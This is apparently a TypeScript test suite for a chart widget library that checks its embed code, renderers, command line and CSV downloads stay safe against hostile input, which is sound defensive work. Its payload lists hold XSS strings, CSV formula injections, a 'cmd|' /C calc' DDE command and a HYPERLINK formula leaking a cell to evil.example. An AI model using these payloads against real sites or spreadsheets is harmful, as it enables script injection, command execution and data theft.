import { expect } from '@open-wc/testing';
import fc from 'fast-check';
import '../src/index.js';
import { parseCsv, toCsv } from '../src/data/csv.js';
import { xmlSafe } from '../src/data/xml-safe.js';
import { messages } from '../src/i18n/index.js';
import { scriptUrl } from '../src/export/embed.js';
import { downloadCsv, mountTag, openFrame, until } from './helpers.js';

/**
 * What reaches an editor's clipboard, a reader's spreadsheet and a server from hostile or
 * careless input: every class is tried with many payloads, most of them generated.
 */
type Chart = HTMLElement & { updateComplete: Promise<boolean>; data: unknown; embedCode(): string; fallbackHtml(): string };

/** Replacement patterns of String.prototype.replace, and markup around them. */
const DOLLAR_PAYLOADS = [
  '$`',
  "$'",
  '$&',
  '$$',
  '$1',
  '$<x>',
  "US$'000",
  '$`"><img src=x onerror="window.top.__pwned=1">',
  "$'<script>window.top.__pwned=2</script>",
  '</kz-auto-yoy><script>window.top.__pwned=3</script>',
  '" onmouseover="window.top.__pwned=4',
  '&amp; &lt;b&gt; $& $` $\'',
];
const fragments = fc.constantFrom('$`', "$'", '$&', '$$', '$1', '$<x>', '$', '<', '>', '"', "'", '&', '&amp;', '/', '=', ' ', 'a', 'Ә', '</kz-auto-yoy>', '<script>', ' onload=', '\n');
/** A non-blank text made of the pieces that break naive assembly. */
const hostileText = fc.array(fragments, { minLength: 1, maxLength: 12 }).map((a) => `x${a.join('')}`);

/**
 * The snippet as a browser would parse it: only the elements we write, no event-handler
 * attribute anywhere, the one script ours, and the texts back verbatim.
 */
function checkSnippet(snippet: string, title: string, { fallback }: { fallback: boolean }) {
  const doc = new DOMParser().parseFromString(snippet, 'text/html');
  const allowed = new Set(['html', 'head', 'body', 'script', 'kz-auto-yoy', 'figure', 'figcaption', 'strong', 'br', 'table', 'tbody', 'caption', 'tr', 'th', 'td', 'p']);
  const names = [...doc.querySelectorAll('*')].map((e) => e.localName);
  expect(names.filter((n) => !allowed.has(n)), `elements in ${JSON.stringify(snippet)}`).to.deep.equal([]);
  const attributes = [...doc.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name));
  expect(attributes.filter((a) => a.startsWith('on'))).to.deep.equal([]);
  const scripts = [...doc.querySelectorAll('script')];
  expect(scripts.map((s) => s.getAttribute('src'))).to.deep.equal([scriptUrl]);
  expect(scripts[0]!.textContent).to.equal('');
  const el = doc.querySelectorAll('kz-auto-yoy');
  expect(el.length).to.equal(1);
  expect(el[0]!.getAttribute('title')).to.equal(title);
  if (fallback) expect(el[0]!.querySelector('figcaption strong')!.textContent).to.equal(title.trim());
}

describe('hostile markup: user text through string assembly', function () {
  // Generated payloads through a browser, Node and the command line: slow on a busy machine.
  this.timeout(120_000);
  it('embed code and fallback keep every replacement pattern and markup verbatim (property)', async () => {
    const el = await mountTag<Chart & import('lit').LitElement>('kz-auto-yoy', 'lang="en"');
    await fc.assert(
      fc.asyncProperty(fc.oneof(hostileText, fc.constantFrom(...DOLLAR_PAYLOADS)), async (title) => {
        el.setAttribute('title', title);
        await el.updateComplete;
        checkSnippet(el.embedCode(), title, { fallback: false });
        // The fallback inside the element, assembled the way the builder does it.
        checkSnippet(el.embedCode().split('></kz-auto-yoy>').join(`>\n${el.fallbackHtml()}\n</kz-auto-yoy>`), title, { fallback: true });
      }),
      { numRuns: 60 },
    );
  });

  it('the builder snippet with its fallback shows each payload as text and creates nothing', async () => {
    const { frame, win } = await openFrame('/demo/builder.html', { width: 1200, height: 1400 });
    try {
      const doc = win.document;
      await until(() => doc.body.dataset.ready !== undefined, 'builder ready');
      const tag = doc.getElementById('tag') as HTMLSelectElement;
      tag.value = 'kz-auto-yoy';
      tag.dispatchEvent(new win.Event('change', { bubbles: true }));
      const snippet = doc.getElementById('snippet') as HTMLTextAreaElement;
      const field = doc.querySelector<HTMLInputElement>('#options [name="title"]')!;
      expect((doc.getElementById('with-fallback') as HTMLInputElement).checked).to.equal(true);
      // A text field drops line breaks; the rest of each payload goes in as typed.
      const payloads = [...DOLLAR_PAYLOADS, ...fc.sample(hostileText, { numRuns: 12, seed: 12 })].map((p) => p.replace(/\n/g, '').trim()).filter(Boolean);
      for (const title of payloads) {
        field.value = title;
        field.dispatchEvent(new win.Event('input', { bubbles: true }));
        await until(() => snippet.value.includes('<figure') && new DOMParser().parseFromString(snippet.value, 'text/html').querySelector('kz-auto-yoy')?.getAttribute('title') === title, `snippet for ${title}`);
        checkSnippet(snippet.value, title, { fallback: true });
        expect(snippet.value.split('<script').length, title).to.equal(2);
      }
      expect((win.top as Window & { __pwned?: number }).__pwned).to.equal(undefined);
    } finally {
      frame.remove();
    }
  });

  it('static SVG, HTML, page and the command line keep the payloads as text', async () => {
    const call = async (fn: string, options: unknown) =>
      (await (await fetch(`/__static_call__?${new URLSearchParams({ fn, options: JSON.stringify(options) })}`)).json()) as { output?: string; error?: string };
    const texts = [...DOLLAR_PAYLOADS, ...fc.sample(hostileText, { numRuns: 8, seed: 3 })];
    for (const title of texts) {
      const options = { tag: 'kz-auto-yoy', lang: 'en', width: 640, attributes: { title, source: title } };
      const svg = (await call('renderSvg', options)).output!;
      const svgDoc = new DOMParser().parseFromString(svg, 'image/svg+xml');
      expect(svgDoc.querySelector('parsererror'), title).to.equal(null);
      expect(svgDoc.querySelector('title')!.textContent).to.equal(title.trim());
      expect(svgDoc.querySelector('script, foreignObject, [onload], [onerror], [onmouseover]')).to.equal(null);
      const cli = (await (await fetch(`/__cli__?args=${encodeURIComponent(JSON.stringify(['render', 'kz-auto-yoy', '--format', 'page', '--title', title]))}`)).json()) as { code: number; stdout: string };
      expect(cli.code, title).to.equal(0);
      for (const html of [(await call('renderHtml', options)).output!, (await call('renderHtmlPage', options)).output!, cli.stdout]) {
        const doc = new DOMParser().parseFromString(html, 'text/html');
        const roots = [doc, ...[...doc.querySelectorAll('template')].map((t) => t.content)];
        const all = roots.flatMap((r) => [...r.querySelectorAll('*')]);
        expect(all.filter((e) => ['script', 'img', 'iframe', 'object'].includes(e.localName)).length, title).to.equal(0);
        expect(all.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((a) => a.startsWith('on'))).to.deep.equal([]);
        const shownTitle = roots.map((r) => r.querySelector('.title')).find(Boolean);
        expect(shownTitle?.textContent?.trim(), title).to.equal(title.trim());
      }
    }
  });
});

/** A spreadsheet's view of a written cell: would it evaluate it as a formula? (OWASP CSV injection) */
const wouldEvaluate = (cell: string) =>
  (/^[\t\r\n]/.test(cell) || /^[\s'\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell)) && !/^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$/i.test(cell);

/** The one field of a one-column CSV body line, unquoted as RFC 4180 says. */
const writtenCell = (csv: string) => {
  const line = csv.slice(csv.indexOf('\r\n') + 2, -2);
  return line.startsWith('"') ? line.slice(1, -1).split('""').join('"') : line;
};

describe('hostile markup: CSV downloads', function () {
  // Generated payloads through a browser, Node and the command line: slow on a busy machine.
  this.timeout(120_000);
  const FORMULAS = [
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    '-1+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=1+1',
    '+1+1',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    "'=1+1",
    '＝1+1',
    '- 1',
    '-',
    // A number followed by `;` is no number to a comma-reading spreadsheet (found by the property below).
    '-0;',
    '+1;x',
  ];

  it('guards every cell a spreadsheet would evaluate, and only those (property)', () => {
    for (const value of FORMULAS) {
      const cell = writtenCell(toCsv(['a'], [{ a: value }]));
      expect(cell, JSON.stringify(value)).to.equal(`'${value}`);
    }
    for (const number of ['-24.5', '-1', '+3', '1e3', '0.5', '-.5']) expect(writtenCell(toCsv(['a'], [{ a: number }]))).to.equal(number);
    const risky = fc.tuple(fc.constantFrom('', ' ', '  ', "'", '\t', '\u3000'), fc.constantFrom('=', '+', '-', '@', '＝', '－'), fc.string()).map((p) => p.join(''));
    fc.assert(
      fc.property(fc.oneof(fc.string(), risky), (value) => {
        const cell = writtenCell(toCsv(['a'], [{ a: value }]));
        // Either the spreadsheet sees text behind the apostrophe, or the cell is harmless as written.
        expect(cell.startsWith("'") || !wouldEvaluate(cell), JSON.stringify(value)).to.equal(true);
        // The apostrophe is ours only where it was needed: anything else goes out as it was.
        if (!wouldEvaluate(value) && !value.includes(';')) expect(cell).to.equal(value);
      }),
      { numRuns: 2000 },
    );
  });

  it('quotes a text cell holding ; , quotes or line breaks, so a ;-splitting Excel keeps it one cell', () => {
    for (const value of ['a;b', 'x;=1+1', 'x;-1+1', 'a,b', 'say "hi"', 'two\nlines', 'cr\rhere']) {
      const line = toCsv(['a', 'b'], [{ a: value, b: 'z' }]).split('\r\n').slice(1, -1).join('\r\n');
      expect(line.startsWith('"') && line.endsWith('",z'), JSON.stringify(line)).to.equal(true);
    }
  });

  it('leaves no formula at any cell start of an Excel that splits at ; (property)', () => {
    const piece = fc.oneof(fc.string(), fc.constantFrom(';', ';=', '; -1+1', ';@', ';+', ';-5', ',', '"', "'", '=', '-1'));
    const text = fc.array(piece, { maxLength: 6 }).map((a) => a.join('').replace(/[\r\n]/g, ' '));
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 3 }), (cells) => {
        const csv = toCsv(['a', 'b'], cells.map(([a, b]) => ({ a, b })));
        for (const line of csv.split('\r\n').slice(1, -1)) {
          // Each piece starts a cell there; a quote that opens it is read as a quote.
          // A first cell that is wholly a number stays bare, as in any download.
          for (const cell of line.split(';').map((p) => p.replace(/^"/, ''))) {
            const bareNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?(,|$)/i.test(cell);
            expect(cell.startsWith("'") || bareNumber || !wouldEvaluate(cell), JSON.stringify(line)).to.equal(true);
          }
        }
      }),
      { numRuns: 1000 },
    );
  });

  it('reads its own download back exactly, guard and all (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.record({ a: fc.oneof(fc.string(), fc.constantFrom(...FORMULAS)), b: fc.array(fc.oneof(fc.string(), fc.constantFrom(';', "'", '-', '=', '5'))).map((p) => p.join('')) }), { minLength: 1, maxLength: 5 }), (rows) => {
        const withMarker = rows.map((r) => ({ ...r, c: 'row' }));
        expect(parseCsv(toCsv(['a', 'b', 'c'], withMarker)).rows).to.deep.equal(withMarker);
      }),
      { numRuns: 1000 },
    );
  });

  it('a widget with formula-like labels downloads them guarded and draws the same chart from the download', async () => {
    const rows = FORMULAS.slice(0, 6).map((brand, i) => ({ brand, country: `${FORMULAS[i + 6]!.trim() || 'x'};=1+1`, plant: '@plant', source: '-src' }));
    const el = await mountTag<Chart & import('lit').LitElement>('kz-brands', 'lang="en"');
    el.data = rows;
    await el.updateComplete;
    const csv = await downloadCsv(el);
    expect(csv).to.contain(`'-1+1,`);
    expect(csv).to.contain(`\r\n'-2+3+cmd|' /C calc'!A0,`);
    expect(csv).to.not.match(/(^|[,\n;])[-=+@]/m);
    expect(csv).to.contain(`"'=1+1;'=1+1"`);
    const copy = await mountTag<Chart & import('lit').LitElement>('kz-brands', 'lang="en"');
    copy.data = parseCsv(csv.replace(/^\ufeff/, ''));
    await copy.updateComplete;
    const shown = (e: Element) => [...e.shadowRoot!.querySelectorAll('svg.plot text, table')].map((n) => n.textContent);
    expect(copy.shadowRoot!.querySelector('[part~="error"], .error')).to.equal(null);
    expect(shown(copy)).to.deep.equal(shown(el));
    expect(shown(el).join(' ')).to.contain('-2+3+cmd|');
  });
});

describe('hostile markup: static API options', function () {
  // Generated payloads through a browser, Node and the command line: slow on a busy machine.
  this.timeout(120_000);
  const call = async (fn: string, options: unknown, width?: string) =>
    (await (await fetch(`/__static_call__?${new URLSearchParams({ fn, options: JSON.stringify(options), ...(width ? { width } : {}) })}`)).json()) as {
      output?: unknown;
      error?: string;
    };
  const cli = async (args: string[]) =>
    (await (await fetch(`/__cli__?args=${encodeURIComponent(JSON.stringify(['render', ...args]))}`)).json()) as { code: number; stderr: string };
  const base = { tag: 'kz-auto-yoy', lang: 'en', width: 640 };

  it('refuses what the command line refuses, with the same message, in every renderer', async () => {
    const cases: [Record<string, unknown>, string | undefined, string[]][] = [
      [{ tag: '<img src=x onerror=alert(1)>' }, undefined, ['<img src=x onerror=alert(1)>']],
      [{ tag: 'script' }, undefined, ['script']],
      [{ lang: 'de' }, undefined, ['kz-auto-yoy', '--lang', 'de']],
      [{ theme: 'blue' }, undefined, ['kz-auto-yoy', '--theme', 'blue']],
      [{}, 'NaN', ['kz-auto-yoy', '--width', 'NaN']],
      [{}, '-5', ['kz-auto-yoy', '--width=-5']],
      [{}, '1e9', ['kz-auto-yoy', '--width=1e9']],
      [{}, 'Infinity', ['kz-auto-yoy', '--width', 'Infinity']],
    ];
    for (const [change, width, args] of cases) {
      const expected = (await cli(args)).stderr.replace(/^kz-auto-charts: /, '').trim();
      expect(expected, args.join(' ')).to.match(/^(unknown|width)/);
      for (const fn of ['renderSvg', 'renderHtml', 'renderHtmlPage']) {
        const result = await call(fn, { ...base, ...change }, width);
        expect(result, `${fn} ${JSON.stringify(change)} ${width}`).to.deep.equal({ error: expected, type: 'Error' });
      }
      expect((await call('widgetProblems', { ...base, ...change }, width)).output).to.deep.equal([expected]);
    }
    expect((await call('renderCsv', { tag: 'kz-auto-yoy', lang: 'de' })).error).to.equal('unknown language "de"; accepted: kk, ru, en');
  });

  it('accepts only attribute names the widget knows, so no name can carry markup (property)', async () => {
    const names = fc.oneof(
      fc.constantFrom('onmouseover', 'onerror', 'style', 'lang', 'x"><script>alert(1)</script>', 'title onload', 'a=b'),
      fc.string({ minLength: 1, maxLength: 12 }).filter((s) => !['mode', 'segments', 'title', 'subtitle', 'source', 'note', 'src', 'src-timeout', 'no-menu'].includes(s)),
    );
    await fc.assert(
      fc.asyncProperty(names, async (name) => {
        for (const fn of ['renderSvg', 'renderHtml', 'renderHtmlPage']) {
          const { error, output } = await call(fn, { ...base, attributes: { [name]: 'alert(1)' } });
          expect(output, `${fn} ${name}`).to.equal(undefined);
          expect(error).to.equal(`unknown attribute "${name}" for kz-auto-yoy; accepted: mode, segments, title, subtitle, source, note, src, src-timeout, no-menu`);
        }
      }),
      { numRuns: 15 },
    );
    const good = await call('renderHtml', { ...base, attributes: { mode: 'change', 'no-menu': '' } });
    expect(good.output).to.match(/<kz-auto-yoy\s+lang="en" mode="change"/);
  });
});

/** Every kind of character XML 1.0 forbids. */
const FORBIDDEN = ['\u0000', '\u0001', '\u0008', '\u000b', '\u000c', '\u000e', '\u001f', '\ufffe', '\uffff', '\ud800', '\udfff', 'a\udc00b'];

describe('hostile markup: characters XML forbids', function () {
  // Generated payloads through a browser, Node and the command line: slow on a busy machine.
  this.timeout(120_000);
  it('text of any code units escaped for markup is well-formed XML (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom(...FORBIDDEN, 'a', ' ', 'Қ', '😀') }), (a, b) => {
        const text = xmlSafe(a + b);
        const esc = text.replace(/[&<>]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;' })[c]!);
        const doc = new DOMParser().parseFromString(`<a>${esc}</a>`, 'application/xml');
        expect(doc.querySelector('parsererror'), JSON.stringify(a + b)).to.equal(null);
        // XML reads a carriage return as a line feed; nothing else changes.
        expect(doc.documentElement.textContent).to.equal(text.replace(/\r\n?/g, '\n'));
      }),
      { numRuns: 500 },
    );
  });

  it('in titles and data cells: the SVG download parses and the PNG is made', async () => {
    const dirty = (s: string, i: number) => `${s}${FORBIDDEN[i % FORBIDDEN.length]}x${FORBIDDEN[(i + 3) % FORBIDDEN.length]}`;
    const el = await mountTag<Chart & import('lit').LitElement>('kz-brands', 'lang="ru"');
    el.setAttribute('title', dirty('Марки', 3));
    el.setAttribute('subtitle', dirty('Подзаголовок', 4));
    el.setAttribute('source', dirty('Источник', 5));
    el.setAttribute('note', dirty('Заметка', 6));
    el.data = FORBIDDEN.map((_, i) => ({ brand: dirty(`B${i}`, i), country: dirty('KZ', i + 1), plant: dirty('P', i + 2), source: dirty('S', i) }));
    await el.updateComplete;
    const offered = (action: string) =>
      new Promise<Blob>((resolve) => {
        el.addEventListener('kz-export', (e) => {
          e.preventDefault();
          resolve((e as CustomEvent<{ blob: Blob }>).detail.blob);
        }, { once: true });
        el.shadowRoot!.querySelector<HTMLButtonElement>('.menu-button')!.click();
        void el.updateComplete.then(() => el.shadowRoot!.querySelector<HTMLButtonElement>(`[data-action="${action}"]`)!.click());
      });
    const svg = await (await offered('svg')).text();
    const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
    expect(doc.querySelector('parsererror')).to.equal(null);
    expect(doc.querySelector('title')!.textContent).to.equal('Марки x');
    expect(svg).to.contain('B1x');
    const png = await offered('png');
    expect(png.type).to.equal('image/png');
    expect(png.size).to.be.greaterThan(1000);
    expect(el.shadowRoot!.querySelector('.title')!.textContent).to.equal('Марки x');

    const staticSvg = await (await fetch(`/__static__/svg?${new URLSearchParams({ tag: 'kz-auto-yoy', title: `T${FORBIDDEN.join('')}`, note: '\u000b\u0001n' })}`)).text();
    expect(new DOMParser().parseFromString(staticSvg, 'image/svg+xml').querySelector('parsererror')).to.equal(null);
  });
});

describe('hostile markup: embed code of own data', function () {
  // Generated payloads through a browser, Node and the command line: slow on a busy machine.
  this.timeout(120_000);
  const chooseEmbed = async (el: Chart & import('lit').LitElement) => {
    el.shadowRoot!.querySelector<HTMLButtonElement>('.menu-button')!.click();
    await el.updateComplete;
    el.shadowRoot!.querySelector<HTMLButtonElement>('[data-action="embed"]')!.click();
    await until(() => !!el.shadowRoot!.querySelector('.menu-status')?.textContent, 'status');
    return el.shadowRoot!.querySelector('.menu-status')!.textContent!;
  };
  let copied: string[] = [];
  beforeEach(() => {
    copied = [];
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText: async (s: string) => void copied.push(s) } });
  });

  it('carries src as an absolute address', async () => {
    const el = await mountTag<Chart & import('lit').LitElement>('kz-plant-share', 'lang="en" src="test/fixtures/plant-share.json" title="Own"');
    // Relative to this test page's folder, as an editor would write it.
    await until(() => !!el.shadowRoot!.querySelector('svg.plot'), 'drawn from src');
    expect(await chooseEmbed(el)).to.equal(messages.en.menu.copied);
    expect(copied).to.have.length(1);
    expect(copied[0]).to.contain(` src="${new URL('test/fixtures/plant-share.json', document.baseURI).href}"`);
  });

  for (const lang of ['kk', 'ru', 'en'] as const) {
    it(`for data set as a property says why there is no code, in ${lang}`, async () => {
      const el = await mountTag<Chart & import('lit').LitElement>('kz-brands', `lang="${lang}" title="Own brands"`);
      el.data = [{ brand: 'Own', country: 'KZ', plant: 'P', source: 'S' }];
      await el.updateComplete;
      expect(await chooseEmbed(el)).to.equal(messages[lang].menu.embedOwnData);
      expect(copied).to.deep.equal([]);
      expect(el.embedCode()).to.equal('');
      el.data = undefined;
      await el.updateComplete;
      expect(el.embedCode()).to.contain('<kz-brands');
    });
  }
});
